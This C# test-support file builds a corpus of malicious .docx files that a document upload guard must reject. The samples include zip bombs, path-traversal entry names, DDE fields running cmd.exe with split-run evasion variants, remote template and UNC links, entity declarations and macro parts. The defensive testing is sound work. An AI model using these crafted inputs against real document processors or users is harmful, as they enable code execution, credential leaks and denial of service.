using System.IO.Compression;
using System.Text;

namespace Onboarding.Docx.Tests.Support;

/// <summary>The corpus of files that the guard must refuse, each with the reason it must give.</summary>
internal static class HostileFiles
{
    public const string Office = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/";
    private const string Word = "application/vnd.openxmlformats-officedocument.wordprocessingml.";

    public static IReadOnlyDictionary<string, (string Code, Func<byte[]> Make)> All { get; } = new Dictionary<string, (string Code, Func<byte[]> Make)>
    {
        ["empty file"] = ("zip.invalid", () => []),
        ["not a zip"] = ("zip.invalid", () => Encoding.UTF8.GetBytes(new string('x', 100_000))),
        ["truncated"] = ("zip.invalid", () => Sound()[..^30]),
        ["cut in the middle"] = ("zip.invalid", () => Sound()[..500]),
        ["something before the archive"] = ("zip.directory", () => [.. "%PDF-1.7 "u8, .. Sound()]),
        ["something before the archive that it knows of"] = ("zip.prefix", () => Prefixed("GIF89a")),
        ["something after the archive"] = ("zip.invalid", () => [.. Sound(), 0]),
        ["overlapping entries"] = ("zip.overlap", () => HostileZip.Overlapping(1_000, 20 << 20)),
        ["entry flood"] = ("zip.entries", () => HostileZip.Flood(60_000)),
        ["entry flood with 64-bit directory"] = ("zip.zip64", () => HostileZip.Flood(70_000)),
        ["content that does not match its checksum"] = ("zip.data", () => Altered("stored content", "stored c0ntent")),
        ["duplicate names"] = ("zip.duplicate", () => With(zip => DocxBuilder.Write(zip, "word/document.xml", "<a/>"))),
        ["duplicate names by case"] = ("zip.duplicate", () => With(zip => DocxBuilder.Write(zip, "WORD/document.xml", "<a/>"))),
        ["path out of the file"] = ("zip.name", () => With(zip => DocxBuilder.Write(zip, "word/../../evil.xml", "<a/>"))),
        ["absolute path"] = ("zip.name", () => With(zip => DocxBuilder.Write(zip, "/etc/evil.xml", "<a/>"))),
        ["path with backslash"] = ("zip.name", () => With(zip => DocxBuilder.Write(zip, "word\\evil.xml", "<a/>"))),
        ["symbolic link"] = ("zip.link", () => With(zip => zip.CreateEntry("word/link.png").ExternalAttributes = unchecked((int)0xA1FF0000))),
        ["ratio bomb"] = ("zip.ratio", () => With(zip => Zeros(zip, "word/media/a.png", 50 << 20))),
        ["total bomb"] = ("zip.total", () => With(zip => Enumerable.Range(0, 11).ToList().ForEach(index => Zeros(zip, $"word/media/{index}.png", 20 << 20)))),
        ["large xml part"] = ("xml.size", () => With(zip => Zeros(zip, "word/a.xml", 21 << 20))),
        ["deep elements"] = ("xml.depth", () => Body(Nested("w:sdt", 20_000))),
        ["deep elements, just over"] = ("xml.depth", () => Body(Nested("w:sdt", 256))),
        ["element flood"] = ("xml.elements", () => Body(string.Concat(Enumerable.Range(0, 500_001).Select(index => $"<w:p w:rsidR=\"{index * 2654435761L:X16}\"/>")))),
        ["attribute flood"] = ("xml.token", () => Body("<w:p " + string.Concat(Enumerable.Range(0, 700_000).Select(index => $"a{index}='' ")) + "/>")),
        ["long field code"] = ("field.length", () => Body(Field(new string('x', 70_000)))),
        ["relationship flood"] = ("relationship.count", () => Related(Repeat($"<Relationship Id=\"x\" Type=\"{Office}image\" Target=\"a\"/>", 5_001))),
        ["relationship bytes"] = ("relationship.size", () => Related($"<Relationship Id=\"x\" Type=\"{Office}image\" Target=\"{new string('a', 3 << 20)}\"/>")),
        ["document type"] = ("xml.invalid", () => Replaced("<!DOCTYPE a [<!ENTITY b 'c'>]><w:document/>")),
        ["outside entity"] = ("xml.invalid", () => Replaced("<!DOCTYPE a SYSTEM 'http://192.0.2.1/a'><w:document/>")),
        ["broken xml"] = ("xml.invalid", () => Body("<w:p>")),
        ["no content types"] = ("package.kind", () => HostileZip.Rename(Sound(), "[Content_Types].xml", "[Content_Tipes].xml")),
        ["macro document"] = ("package.kind", () => Typed("application/vnd.ms-word.document.macroEnabled.main+xml")),
        ["template"] = ("package.kind", () => Typed(Word + "template.main+xml")),
        ["macros"] = ("package.type", () => new DocxBuilder("<w:p/>").Add("word/vbaProject.bin", "application/vnd.ms-office.vbaProject", "theme", "x").Build()),
        ["macro relationship"] = ("relationship.forbidden", () => Related("<Relationship Id=\"x\" Type=\"http://schemas.microsoft.com/office/2006/relationships/vbaProject\" Target=\"a.bin\"/>")),
        ["ActiveX"] = ("package.type", () => new DocxBuilder("<w:p/>").Add("word/activeX/activeX1.xml", "application/vnd.ms-office.activeX+xml", "theme", "<a/>").Build()),
        ["ActiveX element in a part typed as plain data"] = ("element.forbidden", () => With(zip => DocxBuilder.Write(zip, "word/a.xml", "<control/>"))),
        ["ActiveX element"] = ("element.forbidden", () => Body("<w:p><w:r><w:control/></w:r></w:p>")),
        ["OLE object"] = ("package.type", () => new DocxBuilder("<w:p/>").Add("word/embeddings/oleObject1.bin", "application/vnd.openxmlformats-officedocument.oleObject", "theme", "x").Build()),
        ["OLE object as picture"] = ("package.nested", () => With(zip => DocxBuilder.Write(zip, "word/media/a.png", "\u0000"), [0xD0, 0xCF, 0x11, 0xE0, 0, 0, 0, 0])),
        ["archive as picture"] = ("package.nested", () => With(zip => DocxBuilder.Write(zip, "word/media/a.png", ""), Sound())),
        ["svg picture"] = ("package.type", () => new DocxBuilder("<w:p/>").Add("word/media/a.svg", "image/svg+xml", "image", "<svg/>").Build()),
        ["html chunk"] = ("relationship.forbidden", () => Related($"<Relationship Id=\"x\" Type=\"{Office}aFChunk\" Target=\"a.htm\"/>")),
        ["html chunk element"] = ("element.forbidden", () => Body("<w:altChunk r:id=\"r1\"/>")),
        ["attached template"] = ("relationship.forbidden", () => Related($"<Relationship Id=\"x\" Type=\"{Office}attachedTemplate\" Target=\"http://192.0.2.1/a.dotm\" TargetMode=\"External\"/>")),
        ["linked picture"] = ("relationship.external", () => Related($"<Relationship Id=\"x\" Type=\"{Office}image\" Target=\"http://192.0.2.1/a.png\" TargetMode=\"External\"/>")),
        ["hyperlink to a share"] = ("relationship.scheme", () => Related($"<Relationship Id=\"x\" Type=\"{Office}hyperlink\" Target=\"file://192.0.2.1/a\" TargetMode=\"External\"/>")),
        ["hyperlink to a script"] = ("relationship.scheme", () => Related($"<Relationship Id=\"x\" Type=\"{Office}hyperlink\" Target=\"javascript:alert(1)\" TargetMode=\"External\"/>")),
        ["internal address outside"] = ("relationship.target", () => Related($"<Relationship Id=\"x\" Type=\"{Office}image\" Target=\"\\\\192.0.2.1\\a\"/>")),
        ["unknown relationship mode"] = ("relationship.mode", () => Related($"<Relationship Id=\"x\" Type=\"{Office}image\" Target=\"a\" TargetMode=\"external\"/>")),
        ["picture by address in a drawing"] = ("vml.source", () => Body("<w:p><w:r><w:pict><v:shape><v:imagedata src=\"http://192.0.2.1/a.png\"/></v:shape></w:pict></w:r></w:p>")),
        ["dde"] = ("field.forbidden", () => Body(Field("DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe \"/k calc\""))),
        ["dde over several runs"] = ("field.forbidden", () => Body(Field("D", "DE", "AU", "TO cmd"))),
        ["dde in lower case after spaces"] = ("field.forbidden", () => Body(Field("  ", "ddeauto x"))),
        ["dde in a simple field"] = ("field.forbidden", () => Body("<w:p><w:fldSimple w:instr=\" DDE x y \"/></w:p>")),
        ["dde made by another field"] = ("field.hidden", () => Body("<w:p>" + Char("begin") + Field("QUOTE 68 68 69").Replace("<w:p>", "", StringComparison.Ordinal).Replace("</w:p>", "", StringComparison.Ordinal) + Char("end") + "</w:p>")),
        ["dde over several paragraphs"] = ("field.forbidden", () => Body($"<w:p>{Char("begin")}{Instruction("DDE")}</w:p><w:p>{Instruction("AUTO x")}{Char("end")}</w:p>")),
        ["dde in deleted text"] = ("field.forbidden", () => Body($"<w:p>{Char("begin")}<w:del><w:r><w:delInstrText>DDE x</w:delInstrText></w:r></w:del>{Char("end")}</w:p>")),
        ["dde never ended"] = ("field.forbidden", () => Body($"<w:p>{Char("begin")}{Instruction("DDE x")}</w:p>")),
        ["include text"] = ("field.forbidden", () => Body(Field("INCLUDETEXT \"\\\\\\\\192.0.2.1\\\\a\""))),
        ["include picture"] = ("field.forbidden", () => Body(Field("INCLUDEPICTURE \"http://192.0.2.1/a\" \\d"))),
        ["link"] = ("field.forbidden", () => Body(Field("LINK Excel.Sheet.8 a.xls"))),
        ["macro button"] = ("field.forbidden", () => Body(Field("MACROBUTTON x y"))),
        ["hyperlink field to a share"] = ("field.hyperlink", () => Body(Field("HYPERLINK \\o \"tip\" \"\\\\\\\\192.0.2.1\\\\a\""))),
        ["field depth"] = ("field.depth", () => Body("<w:p>" + Repeat(Char("begin") + Instruction("IF "), 65) + "</w:p>")),
        ["workbook instead of document"] = ("package.kind", () => Typed("application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml")),
    };

    public static byte[] Sound() => DocxBuilder.WithText("sound").Build();

    public static byte[] Prefixed(string prefix)
    {
        using var memory = new MemoryStream();
        memory.Write(Encoding.UTF8.GetBytes(prefix));
        using (var zip = new ZipArchive(memory, ZipArchiveMode.Create, leaveOpen: true))
        {
            DocxBuilder.Write(zip, "word/document.xml", "<a/>");
        }

        return memory.ToArray();
    }

    /// <summary>An entry that is stored unpacked, with other bytes than its checksum says.</summary>
    public static byte[] Altered(string content, string altered)
    {
        var file = With(zip =>
        {
            using var stream = zip.CreateEntry("word/media/a.png", CompressionLevel.NoCompression).Open();
            stream.Write(Encoding.UTF8.GetBytes(content));
        });
        return HostileZip.Rename(file, content, altered);
    }

    public static byte[] Body(string xml) => new DocxBuilder(xml).Build();

    public static byte[] Related(string relationships) => new DocxBuilder("<w:p/>").AddRelationship(relationships).Build();

    public static byte[] Typed(string mainType) =>
        Replace(Sound(), "[Content_Types].xml", Encoding.UTF8.GetBytes(ReadText(Sound(), "[Content_Types].xml").Replace(Word + "document.main+xml", mainType, StringComparison.Ordinal)));

    public static byte[] Replaced(string document) => Replace(Sound(), "word/document.xml", Encoding.UTF8.GetBytes(document));

    public static byte[] With(Action<ZipArchive> more) => new DocxBuilder("<w:p/>").Build(more);

    public static byte[] With(Action<ZipArchive> more, byte[] content) => Replace(With(more), "word/media/a.png", content);

    public static byte[] Replace(byte[] file, string name, byte[] content)
    {
        using var memory = new MemoryStream();
        memory.Write(file);
        using (var zip = new ZipArchive(memory, ZipArchiveMode.Update, leaveOpen: true))
        {
            zip.GetEntry(name)!.Delete();
            using var stream = zip.CreateEntry(name).Open();
            stream.Write(content);
        }

        return memory.ToArray();
    }

    public static string ReadText(byte[] file, string name)
    {
        using var zip = new ZipArchive(new MemoryStream(file));
        using var reader = new StreamReader(zip.GetEntry(name)!.Open());
        return reader.ReadToEnd();
    }

    public static void Zeros(ZipArchive zip, string name, int size)
    {
        using var stream = zip.CreateEntry(name).Open();
        stream.Write(new byte[size]);
    }

    public static byte[] Workbook(string formula)
    {
        using var memory = new MemoryStream();
        using (var zip = new ZipArchive(memory, ZipArchiveMode.Create, leaveOpen: true))
        {
            const string sheet = "application/vnd.openxmlformats-officedocument.spreadsheetml.";
            DocxBuilder.Write(zip, "[Content_Types].xml", "<Types xmlns=\"http://schemas.openxmlformats.org/package/2006/content-types\">"
                + "<Default Extension=\"rels\" ContentType=\"application/vnd.openxmlformats-package.relationships+xml\"/>"
                + $"<Override PartName=\"/xl/workbook.xml\" ContentType=\"{sheet}sheet.main+xml\"/><Override PartName=\"/xl/sheet1.xml\" ContentType=\"{sheet}worksheet+xml\"/></Types>");
            DocxBuilder.Write(zip, "_rels/.rels", DocxBuilder.Relationships($"<Relationship Id=\"r1\" Type=\"{Office}officeDocument\" Target=\"xl/workbook.xml\"/>"));
            DocxBuilder.Write(zip, "xl/workbook.xml", "<workbook/>");
            DocxBuilder.Write(zip, "xl/sheet1.xml", $"<worksheet><c>{formula}</c></worksheet>");
        }

        return memory.ToArray();
    }

    public static string Field(params string[] pieces) =>
        "<w:p>" + Char("begin") + string.Concat(pieces.Select(Instruction)) + Char("separate") + "<w:r><w:t>x</w:t></w:r>" + Char("end") + "</w:p>";

    public static string Char(string type) => $"<w:r><w:fldChar w:fldCharType=\"{type}\"/></w:r>";

    public static string Instruction(string code) => $"<w:r><w:instrText xml:space=\"preserve\">{code}</w:instrText></w:r>";

    public static string Nested(string name, int depth) => Repeat($"<{name}>", depth) + Repeat($"</{name}>", depth);

    public static string Repeat(string text, int count) => new StringBuilder().Insert(0, text, count).ToString();
}
